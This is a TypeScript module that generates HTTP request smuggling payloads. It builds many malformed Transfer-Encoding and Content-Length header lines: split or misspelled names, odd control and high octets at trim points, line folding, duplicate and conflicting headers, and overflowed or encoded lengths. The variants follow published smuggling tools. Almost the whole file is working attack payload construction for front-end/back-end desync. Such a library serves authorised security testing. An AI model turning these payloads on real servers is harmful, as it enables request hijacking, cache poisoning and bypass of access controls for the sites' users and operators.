/**
 * Ways to write a framing field so that one reader recognises it and another does not. The names are those under which the techniques
 * were published (PortSwigger's http-request-smuggler, defparam's smuggler, http-garden); the bytes are written here.
 */

export interface Technique {
  readonly name: string;
  /** The field lines as sent, without the last CRLF. */
  readonly lines: string;
}

/** Octets that some readers skip or strip, or at which they split. */
const ODD_OCTETS = [
  0, 1, 4, 8, 9, 10, 11, 12, 13, 31, 32, 34, 39, 44, 58, 59, 127, 128, 133, 150, 160, 173, 255,
];
const octet = (code: number): string => String.fromCharCode(code);
const hex = (code: number): string => code.toString(16).padStart(2, '0');

/** Malformed variants of the line of any field. */
function bent(name: string, value: string): Technique[] {
  const [first = '', ...others] = name.split('-');
  const rest = others.join('-');
  const table: readonly (readonly [string, string])[] = [
    ['vanilla', `${name}: ${value}`],
    ['underjoin1', `${first}_${rest}: ${value}`],
    ['spacejoin1', `${first} ${rest}: ${value}`],
    ['smashed', `${first}${rest}: ${value}`],
    ['space1', `${name} : ${value}`],
    ['nameprefix1', ` ${name}: ${value}`],
    ['nameprefix2', `Foo: bar\r\n ${name}: ${value}`],
    ['tabprefix1', `\t${name}: ${value}`],
    ['tabprefix2', `${name}\t:\t${value}`],
    ['valueprefix1', `${name}:  ${value}`],
    ['vertprefix1', `${name}:\x0b${value}`],
    ['nospace1', `${name}:${value}`],
    ['tabsuffix', `${name}: ${value}\t`],
    ['commaCow', `${name}: ${value}, cow`],
    ['cowComma', `${name}: cow, ${value}`],
    ['commaPrefix', `${name}: ,${value}`],
    ['commaSuffix', `${name}: ${value},`],
    ['nested', `${name}: cow ${value} bar`],
    ['linewrapped1', `${name}:\n ${value}`],
    ['wrapped', `${name}:\r\n ${value}`],
    ['vertwrap', `${name}: \n\x0b${value}`],
    ['tabwrap', `${name}: \r\n\t${value}`],
    ['gareth1', `${name}\n : ${value}`],
    ['quoted', `${name}: "${value}"`],
    ['aposed', `${name}: '${value}'`],
    ['lazygrep', `${name}: ${value.slice(0, -1)}`],
    ['multiCase', `${mixed(name)}: ${mixed(value)}`],
    ['UPPERCASE', `${name.toUpperCase()}: ${value.toUpperCase()}`],
    ['badwrap', `Foo: bar\r\n ${name}: ${value}\r\nX: y`],
    ['badsetupCR', `Foo: bar\r${name}: ${value}`],
    ['badsetupLF', `Foo: bar\n${name}: ${value}`],
    ['0dwrap', `Foo: bar\r\n\r${name}: ${value}`],
    ['0dsuffix', `${name}: ${value}\r`],
    ['0dspam', `${first}\r-${rest}: ${value}`],
    ['0aspam', `${first}-\r\n${rest}: ${value}`],
    ['rdouble', `${name}: ${value}\r\r\nX: y`],
    ['spjunk', `${name} x: ${value}`],
    ['backslash', `${first}\\${rest}: ${value}`],
    ['encode', `${first}-%${hex(rest.charCodeAt(0))}${rest.slice(1)}: ${value}`],
    ['accent', `${first.slice(0, -1)}\x82${rest}: ${value}`],
    ['colonPrefix', `:${name}: ${value}`],
    ['noColon', `${name} ${value}`],
    ['equals', `${name}=${value}`],
    ['inValue', `Foo: ${name}: ${value}`],
    ['headerNull', `${name}\0: ${value}`],
    ['named away', `Connection: ${name}\r\n${name}: ${value}`],
    ['x-rout', `X: X\r${name}: ${value}`],
    ['x-nout', `X: X\n${name}: ${value}`],
    ['x-nn', `X: X\n\n${name}: ${value}`],
    ['x-rnrX', `X: X\r\n\rX${name}: ${value}`],
    ['doubled', `${name}: ${value}\r\n${name}: ${value}`],
  ];
  return [...table.map(([title, lines]) => ({ name: title, lines })), ...withOddOctets(name, value)];
}

/** The loops of smuggler: one odd octet at each place where a reader may trim or split. */
function withOddOctets(name: string, value: string): Technique[] {
  const places: Readonly<Record<string, (odd: string) => string>> = {
    midspace: (odd) => `${name}:${odd}${value}`,
    postspace: (odd) => `${name}${odd}: ${value}`,
    prespace: (odd) => `${odd}${name}: ${value}`,
    endspace: (odd) => `${name}: ${value}${odd}`,
    xprespace: (odd) => `X: X${odd}${name}: ${value}`,
    endspacex: (odd) => `${name}: ${value}${odd}X: X`,
    rxprespace: (odd) => `X: X\r${odd}${name}: ${value}`,
    xnprespace: (odd) => `X: X${odd}\n${name}: ${value}`,
    endspacerx: (odd) => `${name}: ${value}\r${odd}X: X`,
    endspacexn: (odd) => `${name}: ${value}${odd}\nX: X`,
    inname: (odd) => `${name.slice(0, 3)}${odd}${name.slice(3)}: ${value}`,
    invalue: (odd) => `${name}: ${value.slice(0, 1)}${odd}${value.slice(1)}`,
  };
  return Object.entries(places).flatMap(([place, at]) =>
    ODD_OCTETS.map((code) => ({ name: `${place}:${hex(code)}`, lines: at(octet(code)) })),
  );
}

const CODINGS = [
  'chunked, chunked',
  'identity, chunked',
  'chunked, identity',
  'gzip, chunked',
  'chunked;q=1',
  'chunked; foo=bar',
  'chunk',
  'xchunked',
  'chunkedx',
  'ch\x96nked',
  '=?iso-8859-1?B?Y2h1bmtlZA==?=',
  '=?iso-8859-1?Q?=63=68=75=6e=6b=65=64?=',
  'identity',
  'cow',
  '',
  '()chunked',
  '{chunked}',
  'chunked/1',
];
const CODING_PAIRS = [
  ['dualchunk', 'chunked', 'cow'],
  ['revdualchunk', 'identity', 'chunked'],
  ['emptyfirst', '', 'chunked'],
  ['emptylast', 'chunked', ''],
];

/** Ways to declare a chunked body. */
export const CODING_TECHNIQUES: readonly Technique[] = [
  ...bent('Transfer-Encoding', 'chunked'),
  ...CODINGS.map((coding) => ({ name: `coding ${coding}`, lines: `Transfer-Encoding: ${coding}` })),
  ...CODING_PAIRS.map(([name = '', first, second]) => ({
    name,
    lines: `Transfer-Encoding: ${first}\r\nTransfer-Encoding: ${second}`,
  })),
  { name: 'contentEnc', lines: 'Content-Encoding: chunked' },
  { name: 'te', lines: 'TE: chunked' },
  { name: 'expect', lines: 'Expect: 100-continue\r\nTransfer-Encoding: chunked' },
  { name: 'upgrade', lines: 'Connection: Upgrade\r\nUpgrade: websocket\r\nTransfer-Encoding: chunked' },
  { name: 'h2c', lines: 'Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nTransfer-Encoding: chunked' },
];

/** Ways to declare the length of a body. */
export function lengthTechniques(length: number): readonly Technique[] {
  const value = String(length);
  const values: Readonly<Record<string, string>> = {
    'CL-plus': `+${value}`,
    'CL-minus': `-${value}`,
    'CL-pad': `0${value}`,
    'CL-bigpad': value.padStart(20, '0'),
    'CL-spacepad': `0 ${value}`,
    'CL-e': `${value}e0`,
    'CL-dec': `${value}.0`,
    'CL-hex': `0x${length.toString(16)}`,
    'CL-commaprefix': `0, ${value}`,
    'CL-commasuffix': `${value}, 0`,
    'CL-equal list': `${value}, ${value}`,
    'CL-error': `X${value}`,
    'CL-suffix': `${value}Z`,
    'CL-underscore': `${value.slice(0, 1)}_${value.slice(1)}`,
    'CL-overflow 32': String(4_294_967_296 + length),
    'CL-overflow 64': String(18_446_744_073_709_551_616n + BigInt(length)),
    'CL-empty': '',
    'CL-semicolon': `${value};`,
    'CL-arabic': value.replace(/\d/g, (digit) => octet(0xb0 + Number(digit))),
  };
  return [
    ...bent('Content-Length', value),
    ...Object.entries(values).map(([name, it]) => ({ name, lines: `Content-Length: ${it}` })),
    { name: 'CL two', lines: `Content-Length: ${value}\r\nContent-Length: 0` },
    { name: 'CL two reversed', lines: `Content-Length: 0\r\nContent-Length: ${value}` },
    { name: 'CL-expect', lines: `Expect: 100-continue\r\nContent-Length: ${value}` },
    { name: 'CL-expect-obfs', lines: `Expect: x 100-continue\r\nContent-Length: ${value}` },
  ];
}

function mixed(text: string): string {
  return text.replace(
    /(.)(.?)/g,
    (_, first: string, second: string) => first.toUpperCase() + second.toLowerCase(),
  );
}
